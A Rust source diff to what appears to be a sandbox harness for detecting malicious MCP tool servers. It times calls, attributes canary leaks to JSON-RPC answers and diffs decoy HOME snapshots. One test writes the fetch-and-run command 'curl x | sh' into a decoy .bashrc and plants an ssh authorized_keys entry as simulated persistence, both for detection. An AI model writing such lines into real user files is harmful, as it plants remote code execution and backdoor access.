@@ -437,6 +437,7 @@ impl Report {
                 "decoys": acts(&p.facts.behaviour.decoys),
                 "writes": acts(&p.facts.behaviour.writes),
                 "home": p.facts.home,
+                "late": p.facts.late,
                 "exfiltrated": p.facts.exfiltrated,
                 "leakedBy": p.facts.leaked_by,
             })).collect::<Vec<_>>(),
@@ -722,14 +723,14 @@ impl<'a> Run<'a> {
             return Report::new(Status::SandboxError, format!("planting the decoys: {e}"));
         }
         // The HOME's persistence paths before each sandbox and after it: the second witness.
-        let mut before = home::Manifest::take(&home);
+        let mut before = Snapshot::take(&home);
         let mut witnessed = Vec::new();
         if let Some(installer) = &tree.install {
             let step = Instant::now();
             let (phase, failed) = self.install(installer, &tree, &home).await;
             report.timings.push(("install", step.elapsed()));
             report.phases.push(phase);
-            let after = home::Manifest::take(&home);
+            let after = Snapshot::take(&home);
             witnessed.push((Phase::Install, before, after.clone()));
             before = after;
             if let Some((status, detail)) = failed {
@@ -1000,8 +1001,8 @@ impl<'a> Run<'a> {
         home: &Path,
         launch: &Launch,
         report: &mut Report,
-        before: home::Manifest,
-    ) -> Vec<(Phase, home::Manifest, home::Manifest)> {
+        before: Snapshot,
+    ) -> Vec<(Phase, Snapshot, Snapshot)> {
         let mut args = tree.run.clone();
         args.extend(launch.arguments.iter().cloned());
         let mounts = vec![mount(PKG, &tree.dir, false), mount(HOME, home, true)];
@@ -1036,11 +1037,11 @@ impl<'a> Run<'a> {
         )
         .await;
         let listed_at = SystemTime::now();
-        let at_listing = home::Manifest::take(home);
+        let at_listing = Snapshot::take(home);
         report.timings.push(("startup", step.elapsed()));
         let step = Instant::now();
         let mut cut = false;
-        let mut windows = Vec::new();
+        let mut called = Called::default();
         match listed {
             Err(_) => {
                 report.status = Status::Timeout;
@@ -1058,7 +1059,8 @@ impl<'a> Run<'a> {
                 };
             }
             Ok(Ok(())) => {
-                (report.calls, windows) = self.calls(&mut session, &mut stdio).await;
+                called = self.calls(&mut session, &mut stdio).await;
+                report.calls = std::mem::take(&mut called.outcomes);
             }
         }
         drop(session);
@@ -1068,25 +1070,14 @@ impl<'a> Run<'a> {
         report.protocol_version = listing.protocol_version.clone();
         report.pages = listing.pages.clone();
         let cuts = self.search.cuts();
-        let mut leaked_by: Vec<String> = report
-            .calls
-            .iter()
-            .filter(|c| matches!(c.outcome, "ok" | "error" | "input-required"))
-            .filter_map(|c| Some(self.search.find(c.detail.as_bytes())?.evidence(&c.tool)))
-            .collect();
-        let results: Vec<&str> = report.calls.iter().map(|c| c.detail.as_str()).collect();
-        if stdio.lines.iter().any(|l| {
-            !results.iter().any(|r| l.contains(r)) && self.search.find(l.as_bytes()).is_some()
-        }) {
-            // A notification, a request to the client, a listing: the canary still reached it.
-            leaked_by.push("(another message to the client)".into());
-        }
+        let leaked_by = leaks(&stdio.lines, &called.answers, &self.search);
         let leak_search_cut = self.search.cuts() > cuts;
         // Close stdin, as a client would. A server that listed its tools is kept for the calls'
-        // grace, and what it does until it exits or is killed is the calls phase's; one that
-        // did not is given a moment. Then it is killed.
+        // grace; what it does until it exits or is killed is the calls phase's when a call was
+        // made (after its last answer), startup's when none was (after the listing, as
+        // before). One that did not list its tools is given a moment. Then it is killed.
         let listed = report.status == Status::Ok;
-        let last_answer = windows.last().map_or(listed_at, |(_, to)| *to);
+        let last_answer = called.windows.last().map(|(_, to)| *to);
         drop(stdio);
         let grace = if listed {
             limits.calls_grace
@@ -1094,8 +1085,13 @@ impl<'a> Run<'a> {
             EXIT_GRACE
         };
         let ended = Self::end(sandbox, grace, empty(), stderr).await;
+        let mut times = CallTimes {
+            calls: called.windows,
+            grace: None,
+            unanswered: called.unanswered,
+        };
         if listed {
-            windows.push((last_answer, SystemTime::now()));
+            times.grace = last_answer.map(|from| (from, SystemTime::now()));
             report.calls_grace = Some(limits.calls_grace);
             report.timings.push(("grace", step.elapsed()));
             step = Instant::now();
@@ -1135,7 +1131,7 @@ impl<'a> Run<'a> {
             &trace,
             traps.as_ref(),
             probed,
-            &Window::Startup(listed_at, windows.clone()),
+            &Window::Startup(listed_at, times.clone()),
             &harness,
         );
         report.timings.push(("teardown", step.elapsed()));
@@ -1153,14 +1149,14 @@ impl<'a> Run<'a> {
             );
         }
         report.phases.push(startup);
-        let at_end = home::Manifest::take(home);
+        let at_end = Snapshot::take(home);
         if report.status == Status::Ok {
             let mut calls = self.phase(
                 Phase::Calls,
                 &trace,
                 traps.as_ref(),
                 probed,
-                &Window::Calls(windows),
+                &Window::Calls(times),
                 &harness,
             );
             calls.facts.leaked_by = leaked_by;
@@ -1192,13 +1188,9 @@ impl<'a> Run<'a> {
         }
     }
 
-    /// Each listed tool called once (up to the limits) with canary arguments; the outcomes,
-    /// and each call's time window (from its request to its answer).
-    async fn calls<R, W>(
-        &self,
-        session: &mut Session<'_>,
-        stdio: &mut Stdio<R, W>,
-    ) -> (Vec<CallOutcome>, Vec<(SystemTime, SystemTime)>)
+    /// Each listed tool called once (up to the limits) with canary arguments: the outcomes,
+    /// each call's time window (from its request to its answer) and where each answer is.
+    async fn calls<R, W>(&self, session: &mut Session<'_>, stdio: &mut Stdio<R, W>) -> Called
     where
         R: tokio::io::AsyncBufRead + Unpin + Send,
         W: tokio::io::AsyncWrite + Unpin + Send,
@@ -1208,6 +1200,8 @@ impl<'a> Run<'a> {
         let budget = Instant::now() + limits.calls;
         let mut out = Vec::new();
         let mut windows = Vec::new();
+        let mut answers = Vec::new();
+        let mut unanswered = None;
         let mut gone = false;
         for (i, (name, schema)) in tools.into_iter().enumerate() {
             let outcome = |outcome, detail: String| CallOutcome {
@@ -1237,8 +1231,19 @@ impl<'a> Run<'a> {
             let from = SystemTime::now();
             let answer = tokio::time::timeout(left, session.call_tool(stdio, &name, args)).await;
             windows.push((from, SystemTime::now()));
+            if let (Ok(Ok(_)), Some(id)) = (&answer, stdio.last_request_id()) {
+                // The session read the answer from the last line it read.
+                answers.push(Answered {
+                    line: stdio.lines.len().saturating_sub(1),
+                    id,
+                    tool: name.clone(),
+                });
+            }
             match answer {
-                Err(_) => out.push(outcome("timeout", format!("no answer within {left:?}"))),
+                Err(_) => {
+                    unanswered.get_or_insert(from);
+                    out.push(outcome("timeout", format!("no answer within {left:?}")));
+                }
                 // A result asking for input is the tool's outcome: never answered, nothing more
                 // waited for, the next tool called.
                 Ok(Ok(Answer::Result(r))) => match CallResult::of(&r) {
@@ -1257,7 +1262,12 @@ impl<'a> Run<'a> {
                 }
             }
         }
-        (out, windows)
+        Called {
+            outcomes: out,
+            windows,
+            answers,
+            unanswered,
+        }
     }
 
     /// The trace of `spec`'s run, read once (`None`: there is none).
@@ -1320,6 +1330,8 @@ impl<'a> Run<'a> {
         let mut exfiltrated = socket_leaks(&part, &self.search);
         let mut lookups = Vec::new();
         let mut requests = Vec::new();
+        // Lookups after the last answer with no call in flight (`dns:<name>`).
+        let mut late_lookups = Vec::new();
         match traps {
             Some(t) => {
                 let names = t.names();
@@ -1335,6 +1347,12 @@ impl<'a> Run<'a> {
                         .iter()
                         .filter(|l| window.holds_at(l.at))
                         .map(|l| l.name.clone()),
+                );
+                late_lookups.extend(
+                    t.lookups
+                        .iter()
+                        .filter(|l| window.late(&trace_time(l.at)))
+                        .map(|l| format!("dns:{}", l.name)),
                 );
                 for l in t.lookups.iter().filter(|l| window.holds_at(l.at)) {
                     if let Some(m) = self.search.find(l.name.as_bytes()) {
@@ -1394,6 +1412,12 @@ impl<'a> Run<'a> {
                     lookups.extend(std::iter::repeat_n("?".to_owned(), unread));
                     incomplete.push("lookup-unreadable".to_owned());
                 }
+                late_lookups.extend(
+                    t.unreadable_lookups
+                        .iter()
+                        .filter(|at| window.late(&trace_time(**at)))
+                        .map(|_| "dns:?".to_owned()),
+                );
                 if t.cut {
                     incomplete.push("traps-cut".to_owned());
                 }
@@ -1407,8 +1431,21 @@ impl<'a> Run<'a> {
                 if !lookups.is_empty() {
                     incomplete.push("lookup-name-unknown".to_owned());
                 }
+                late_lookups.extend(
+                    b.dns
+                        .iter()
+                        .filter(|a| window.late(&a.at))
+                        .map(|_| "dns:?".to_owned()),
+                );
             }
         }
+        let late: Vec<String> = b
+            .network
+            .iter()
+            .filter(|a| window.late(&a.at))
+            .map(|a| a.what.clone())
+            .chain(late_lookups)
+            .collect();
         if self.search.cuts() > cuts {
             // A payload past the search's limits: what it held past them is unknown.
             incomplete.push("canary-search-cut".to_owned());
@@ -1427,6 +1464,7 @@ impl<'a> Run<'a> {
                 exfiltrated,
                 leaked_by: Vec::new(),
                 home: Vec::new(),
+                late,
             },
         }
     }
@@ -1460,39 +1498,82 @@ impl PhaseReport {
     }
 }
 
+/// When the calls were: each call's window (request to answer, or to its timeout), the grace
+/// after the last answer (`None` when no call was made, or the tools were not listed), and
+/// when the first call that timed out was made (the server may still be working on it: in
+/// flight until the end).
+#[derive(Debug, Clone, Default)]
+struct CallTimes {
+    calls: Vec<(SystemTime, SystemTime)>,
+    grace: Option<(SystemTime, SystemTime)>,
+    unanswered: Option<SystemTime>,
+}
+
+/// Whether trace time `time` lies in `span` (its ends included).
+fn in_span(span: &(SystemTime, SystemTime), time: &str) -> bool {
+    !before(time, &trace_time(span.0)) && !before(&trace_time(span.1), time)
+}
+
+impl CallTimes {
+    /// Within a call's window.
+    fn in_call(&self, time: &str) -> bool {
+        self.calls.iter().any(|w| in_span(w, time))
+    }
+
+    /// Within the grace after the last answer.
+    fn in_grace(&self, time: &str) -> bool {
+        self.grace.as_ref().is_some_and(|g| in_span(g, time))
+    }
+
+    /// Within the grace, outside every call's window, and not after a call that was never
+    /// answered: no call in flight.
+    fn late(&self, time: &str) -> bool {
+        let unanswered = self
+            .unanswered
+            .is_some_and(|from| !before(time, &trace_time(from)));
+        self.in_grace(time) && !self.in_call(time) && !unanswered
+    }
+
+    /// Within a call or the grace: the calls phase's.
+    fn holds(&self, time: &str) -> bool {
+        self.in_call(time) || self.in_grace(time)
+    }
+}
+
 /// Which part of a run's trace a phase is.
 enum Window {
     /// All of it.
     All,
-    /// Until the listing was read, and whatever happened after it outside every call.
-    Startup(SystemTime, Vec<(SystemTime, SystemTime)>),
-    /// Within the calls (request to answer).
-    Calls(Vec<(SystemTime, SystemTime)>),
+    /// Until the listing was read, and whatever happened after it outside every call and the
+    /// grace.
+    Startup(SystemTime, CallTimes),
+    /// Within the calls (request to answer) and the grace after the last answer.
+    Calls(CallTimes),
 }
 
 impl Window {
     /// Whether the window holds the moment `t` (a probe record's time).
     fn holds_at(&self, t: SystemTime) -> bool {
-        let within =
-            |w: &[(SystemTime, SystemTime)]| w.iter().any(|(from, to)| *from <= t && t <= *to);
-        match self {
-            Window::All => true,
-            Window::Startup(listed, calls) => t <= *listed || !within(calls),
-            Window::Calls(calls) => within(calls),
-        }
+        self.holds(&trace_time(t))
     }
 
     /// Whether the window holds trace time `time`.
     fn holds(&self, time: &str) -> bool {
-        let within = |w: &[(SystemTime, SystemTime)]| {
-            w.iter().any(|(from, to)| {
-                !before(time, &trace_time(*from)) && !before(&trace_time(*to), time)
-            })
-        };
         match self {
             Window::All => true,
-            Window::Startup(listed, calls) => !before(&trace_time(*listed), time) || !within(calls),
-            Window::Calls(calls) => within(calls),
+            Window::Startup(listed, calls) => {
+                !before(&trace_time(*listed), time) || !calls.holds(time)
+            }
+            Window::Calls(calls) => calls.holds(time),
+        }
+    }
+
+    /// Whether trace time `time` is in the calls' grace with no call in flight (the calls
+    /// phase only: `LATE_NETWORK`).
+    fn late(&self, time: &str) -> bool {
+        match self {
+            Window::Calls(calls) => calls.late(time),
+            _ => false,
         }
     }
 }
@@ -1549,31 +1630,58 @@ impl Harness {
     }
 }
 
-/// The HOME's second witness (`witnessed`: each phase's manifests before and after) added to
-/// the phases: a persistence path that appeared or changed in a phase, and that no phase's
-/// traced writes show, is the phase's `home` fact; a manifest cut short makes the phase
-/// incomplete (`home-witness-cut`).
-fn witness(phases: &mut [PhaseReport], witnessed: Vec<(Phase, home::Manifest, home::Manifest)>) {
-    let traced: Vec<String> = phases
-        .iter()
-        .flat_map(|p| p.facts.behaviour.writes.iter().map(|a| a.what.clone()))
-        .collect();
-    let seen = |path: &str| {
-        traced
+/// A manifest of the decoy HOME and when it was begun: consecutive snapshots bound the span a
+/// phase's witness compares.
+#[derive(Debug, Clone)]
+struct Snapshot {
+    at: SystemTime,
+    manifest: home::Manifest,
+}
+
+impl Snapshot {
+    fn take(home: &Path) -> Snapshot {
+        Snapshot {
+            at: SystemTime::now(),
+            manifest: home::Manifest::take(home),
+        }
+    }
+}
+
+/// Whether the traced act `what` (a [`Behaviour::writes`] item) wrote `path`: opened it for
+/// writing, renamed or linked a file onto it, or made it. A link *to* it did not.
+fn wrote(what: &str, path: &str) -> bool {
+    what == path
+        || ["rename onto ", "link onto ", "mkdir "]
             .iter()
-            .any(|w| w == path || w.strip_suffix(path).is_some_and(|a| a.ends_with(' ')))
-    };
+            .any(|act| what.strip_prefix(act) == Some(path))
+}
+
+/// The HOME's second witness (`witnessed`: each phase's snapshots before and after) added to
+/// the phases: a persistence path that appeared or changed between a phase's two snapshots,
+/// and that no traced act made between them wrote, is the phase's `home` fact; a manifest cut
+/// short makes the phase incomplete (`home-witness-cut`). Acts are matched by their time, not
+/// their phase's name: what the trace gives startup after the listing (outside every call)
+/// falls between the calls phase's snapshots.
+fn witness(phases: &mut [PhaseReport], witnessed: Vec<(Phase, Snapshot, Snapshot)>) {
     for (phase, before, after) in witnessed {
+        let span = (before.at, after.at);
+        let changes = before.manifest.changes(&after.manifest);
+        let unseen: Vec<String> = changes
+            .into_iter()
+            .filter_map(|(rel, what)| {
+                let path = format!("{HOME}/{rel}");
+                let seen = phases
+                    .iter()
+                    .flat_map(|p| &p.facts.behaviour.writes)
+                    .any(|a| in_span(&span, &a.at) && wrote(&a.what, &path));
+                (!seen).then(|| format!("{what} {path}"))
+            })
+            .collect();
         let Some(report) = phases.iter_mut().find(|p| p.phase == phase) else {
             continue;
         };
-        for (rel, what) in before.changes(&after) {
-            let path = format!("{HOME}/{rel}");
-            if !seen(&path) {
-                report.facts.home.push(format!("{what} {path}"));
-            }
-        }
-        if before.cut || after.cut {
+        report.facts.home.extend(unseen);
+        if before.manifest.cut || after.manifest.cut {
             report.complete = false;
             report.incomplete.push("home-witness-cut".into());
         }
@@ -1603,6 +1711,83 @@ fn drop_harness(b: &mut Behaviour, harness: &Harness) {
     for acts in [&mut b.network, &mut b.dns, &mut b.decoys, &mut b.writes] {
         acts.retain(|a| !harness.whole.contains(&a.pid));
     }
+}
+
+/// What the calls phase's session did: each call's outcome and window, and where each
+/// answer was read.
+#[derive(Debug, Default)]
+struct Called {
+    outcomes: Vec<CallOutcome>,
+    windows: Vec<(SystemTime, SystemTime)>,
+    answers: Vec<Answered>,
+    /// When the first call that timed out was made.
+    unanswered: Option<SystemTime>,
+}
+
+/// A `tools/call` the server answered: the stdout line the session read the answer from, the
+/// request's JSON-RPC id, the tool.
+#[derive(Debug, Clone)]
+struct Answered {
+    line: usize,
+    id: u64,
+    tool: String,
+}
+
+/// Where the decoy canary (as written or encoded) reached the client over stdout: each tool
+/// whose answer — the response to its `tools/call`, found by the request's id on the line the
+/// session read it from, all of it (`error.data` and any other member too) — carried it, and
+/// `(another message to the client)` when any other message or line did (a notification, a
+/// request, a listing, a second response to an id already answered, a log line).
+fn leaks(lines: &[String], answers: &[Answered], search: &Search) -> Vec<String> {
+    let mut leaked = Vec::new();
+    let mut other = false;
+    for (i, line) in lines.iter().enumerate() {
+        let answer = answers.iter().find(|a| a.line == i);
+        for (text, tool) in messages(line, answer) {
+            if let Some(m) = search.find(text.as_bytes()) {
+                match tool {
+                    Some(tool) => leaked.push(m.evidence(tool)),
+                    None => other = true,
+                }
+            }
+        }
+    }
+    if other {
+        leaked.push("(another message to the client)".into());
+    }
+    leaked
+}
+
+/// The messages of one stdout line, each with the tool whose answer it is: the line whole
+/// (`None`) when it holds no answer; else each message of it (a batch's elements by their
+/// source text), the first response to `answer`'s id being the tool's.
+fn messages<'l>(line: &'l str, answer: Option<&'l Answered>) -> Vec<(&'l str, Option<&'l str>)> {
+    let Some(answer) = answer else {
+        return vec![(line, None)];
+    };
+    let tool = Some(answer.tool.as_str());
+    let elements: Vec<&str> = if line.trim_start().starts_with('[') {
+        match toolmark_toolset::json::parse_array_with_raw(line) {
+            Ok(elements) => elements.into_iter().map(|(_, raw)| raw).collect(),
+            // The session read the answer from it, so it parses; if not, it is the tool's.
+            Err(_) => return vec![(line, tool)],
+        }
+    } else {
+        vec![line]
+    };
+    let mut found = false;
+    elements
+        .into_iter()
+        .map(|raw| {
+            let is_answer = !found
+                && toolmark_mcp::jsonrpc::parse(raw.as_bytes())
+                    .ok()
+                    .and_then(|m| toolmark_mcp::jsonrpc::find_answer(&m, answer.id).map(|_| ()))
+                    .is_some();
+            found |= is_answer;
+            (raw, if is_answer { tool } else { None })
+        })
+        .collect()
 }
 
 /// Writes into sockets that carry the canary out (as written or encoded: `search`;
@@ -1725,7 +1910,10 @@ mod tests {
     #[test]
     fn what_happens_after_the_listing_outside_every_call_is_startup() {
         let at = |s: u64| SystemTime::UNIX_EPOCH + Duration::from_secs(1_796_177_100 + s);
-        let calls = vec![(at(10), at(12))];
+        let calls = CallTimes {
+            calls: vec![(at(10), at(12))],
+            ..Default::default()
+        };
         let startup = Window::Startup(at(5), calls.clone());
         let during = Window::Calls(calls);
         for (second, in_startup, in_calls) in [
@@ -1741,11 +1929,226 @@ mod tests {
     }
 
     #[test]
+    fn after_the_last_answer_with_no_call_in_flight_is_late_and_the_calls_phases() {
+        let at = |s: u64| SystemTime::UNIX_EPOCH + Duration::from_secs(1_796_177_100 + s);
+        // Listed at 5, calls 10–12 and 14–15, the grace from the last answer (15) to 18.
+        let times = CallTimes {
+            calls: vec![(at(10), at(12)), (at(14), at(15))],
+            grace: Some((at(15), at(18))),
+            unanswered: None,
+        };
+        let startup = Window::Startup(at(5), times.clone());
+        let calls = Window::Calls(times.clone());
+        for (second, in_startup, in_calls, late) in [
+            (3, true, false, false),
+            (11, false, true, false),
+            // Between two calls: startup's, as before.
+            (13, true, false, false),
+            // The last answer's moment is the call's.
+            (15, false, true, false),
+            (16, false, true, true),
+            (18, false, true, true),
+            (20, true, false, false),
+        ] {
+            let t = trace_time(at(second));
+            assert_eq!(startup.holds(&t), in_startup, "{second}");
+            assert_eq!(calls.holds(&t), in_calls, "{second}");
+            assert_eq!(calls.late(&t), late, "{second}");
+            assert!(
+                !startup.late(&t),
+                "{second}: only the calls phase has a grace"
+            );
+        }
+        // The second call timed out (its window ended at 15 without an answer): the server
+        // may still be working on it, so nothing after it is late.
+        let timed_out = Window::Calls(CallTimes {
+            unanswered: Some(at(14)),
+            ..times
+        });
+        for second in [16, 18] {
+            let t = trace_time(at(second));
+            assert!(timed_out.holds(&t) && !timed_out.late(&t), "{second}");
+        }
+    }
+
+    #[test]
+    fn with_no_call_made_what_follows_the_listing_stays_startup() {
+        let at = |s: u64| SystemTime::UNIX_EPOCH + Duration::from_secs(1_796_177_100 + s);
+        // Zero callable tools: no call window, so no grace for the calls phase.
+        let times = CallTimes::default();
+        let startup = Window::Startup(at(5), times.clone());
+        let calls = Window::Calls(times);
+        for second in [3, 6, 9] {
+            let t = trace_time(at(second));
+            assert!(startup.holds(&t), "{second}");
+            assert!(!calls.holds(&t) && !calls.late(&t), "{second}");
+        }
+    }
+
+    /// A search for a fixed canary.
+    const CANARY: &str = "toolmark-canary-0123456789abcdef";
+
+    fn answered(line: usize, id: u64, tool: &str) -> Answered {
+        Answered {
+            line,
+            id,
+            tool: tool.into(),
+        }
+    }
+
+    #[test]
+    fn a_message_carrying_the_canary_is_not_hidden_by_a_tools_answer_text() {
+        let search = Search::new(CANARY);
+        let lines: Vec<String> = [
+            r#"{"jsonrpc":"2.0","id":1,"result":{}}"#.to_owned(),
+            // A notification holding `{}` (the answer's whole text) and the canary.
+            format!(r#"{{"jsonrpc":"2.0","method":"notifications/message","params":{{"data":{{}},"x":"{CANARY}"}}}}"#),
+            r#"{"jsonrpc":"2.0","id":2,"result":{"content":[]}}"#.to_owned(),
+        ]
+        .into();
+        let answers = [answered(0, 1, "first"), answered(2, 2, "second")];
+        assert_eq!(
+            leaks(&lines, &answers, &search),
+            ["(another message to the client)"]
+        );
+        // Without the notification: nothing.
+        let quiet = [lines[0].clone(), lines[2].clone()];
+        let answers = [answered(0, 1, "first"), answered(1, 2, "second")];
+        assert!(leaks(&quiet, &answers, &search).is_empty());
+    }
+
+    #[test]
+    fn a_tools_whole_answer_is_its_own_and_nothing_else_is() {
+        let search = Search::new(CANARY);
+        let lines: Vec<String> = [
+            // The canary outside `result` (an extra member), and in an error's `data`: the
+            // tool's answer.
+            format!(r#"{{"jsonrpc":"2.0","id":3,"result":{{}},"x":"{CANARY}"}}"#),
+            format!(r#"{{"jsonrpc":"2.0","id":4,"error":{{"code":1,"message":"no","data":"{CANARY}"}}}}"#),
+            // A batch: the answer is clean, the notification beside it is not.
+            format!(r#"[{{"jsonrpc":"2.0","id":5,"result":{{}}}},{{"jsonrpc":"2.0","method":"n","params":{{"x":"{CANARY}"}}}}]"#),
+        ]
+        .into();
+        let answers = [
+            answered(0, 3, "extra"),
+            answered(1, 4, "error"),
+            answered(2, 5, "batch"),
+        ];
+        assert_eq!(
+            leaks(&lines, &answers, &search),
+            ["extra", "error", "(another message to the client)"]
+        );
+        // A second response to an answered id, on a later line, is another message.
+        let lines: Vec<String> = [
+            r#"{"jsonrpc":"2.0","id":6,"result":{}}"#.to_owned(),
+            format!(r#"{{"jsonrpc":"2.0","id":6,"result":{{"x":"{CANARY}"}}}}"#),
+        ]
+        .into();
+        assert_eq!(
+            leaks(&lines, &[answered(0, 6, "once")], &search),
+            ["(another message to the client)"]
+        );
+    }
+
+    fn written(what: &str, at: SystemTime) -> behaviour::Act {
+        behaviour::Act {
+            what: what.into(),
+            pid: 2,
+            comm: "node".into(),
+            at: trace_time(at),
+        }
+    }
+
+    /// A manifest of `home` begun at `at`.
+    fn snapshot(home: &Path, at: SystemTime) -> Snapshot {
+        Snapshot {
+            at,
+            manifest: home::Manifest::take(home),
+        }
+    }
+
+    #[test]
+    fn the_witness_is_matched_against_writes_of_its_own_span_that_wrote_the_path() {
+        let at = |s: u64| SystemTime::UNIX_EPOCH + Duration::from_secs(1_796_177_100 + s);
+        let dir = std::env::temp_dir().join(format!("toolmark-witness-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&dir);
+        std::fs::create_dir_all(dir.join(".ssh")).unwrap();
+        std::fs::write(dir.join(".bashrc"), "# decoy\n").unwrap();
+        let start = snapshot(&dir, at(0));
+        std::fs::write(dir.join(".bashrc"), "# decoy\ncurl x | sh\n").unwrap();
+        let listed = snapshot(&dir, at(10));
+        std::fs::write(dir.join(".ssh/authorized_keys"), "ssh-ed25519 AAAA").unwrap();
+        std::fs::write(dir.join(".profile"), "x").unwrap();
+        std::fs::create_dir_all(dir.join(".config/autostart")).unwrap();
+        let end = snapshot(&dir, at(20));
+        let mut startup = PhaseReport::unseen(Phase::Startup, "x");
+        let mut calls = PhaseReport::unseen(Phase::Calls, "x");
+        // `.bashrc` written at startup is seen only by the startup witness; the calls phase's
+        // write of it (at 15) does not hide startup's change.
+        startup.facts.behaviour.writes = vec![
+            written("/home/decoy/.profile", at(3)),
+            written("/home/decoy/.ssh/authorized_keys", at(4)),
+        ];
+        calls.facts.behaviour.writes = vec![
+            written("/home/decoy/.bashrc", at(15)),
+            // A link *to* the path did not write it.
+            written("link to /home/decoy/.ssh/authorized_keys", at(15)),
+            written("mkdir /home/decoy/.config/autostart", at(16)),
+        ];
+        let mut phases = [startup, calls];
+        witness(
+            &mut phases,
+            vec![
+                (Phase::Startup, start, listed.clone()),
+                (Phase::Calls, listed, end),
+            ],
+        );
+        assert_eq!(phases[0].facts.home, ["changed /home/decoy/.bashrc"]);
+        assert_eq!(
+            phases[1].facts.home,
+            [
+                "created /home/decoy/.profile",
+                "created /home/decoy/.ssh/authorized_keys"
+            ]
+        );
+        for (act, path, wrote_it) in [
+            ("/home/decoy/.bashrc", "/home/decoy/.bashrc", true),
+            (
+                "rename onto /home/decoy/.bashrc",
+                "/home/decoy/.bashrc",
+                true,
+            ),
+            ("link onto /home/decoy/.bashrc", "/home/decoy/.bashrc", true),
+            (
+                "mkdir /home/decoy/.config/autostart",
+                "/home/decoy/.config/autostart",
+                true,
+            ),
+            ("link to /home/decoy/.bashrc", "/home/decoy/.bashrc", false),
+            (
+                "rename of /home/decoy/.bashrc",
+                "/home/decoy/.bashrc",
+                false,
+            ),
+            ("/home/decoy/.bashrc.bak", "/home/decoy/.bashrc", false),
+            (
+                "rename onto /x/home/decoy/.bashrc",
+                "/home/decoy/.bashrc",
+                false,
+            ),
+        ] {
+            assert_eq!(wrote(act, path), wrote_it, "{act}");
+        }
+        let _ = std::fs::remove_dir_all(&dir);
+    }
+
+    #[test]
     fn npm_and_the_shell_it_runs_a_script_in_are_the_harness_not_the_package() {
         let act = |what: &str, pid| behaviour::Act {
             what: what.into(),
             pid,
             comm: "x".into(),
+            at: String::new(),
         };
         let mut b = Behaviour::default();
         b.parents.insert(2, 1);
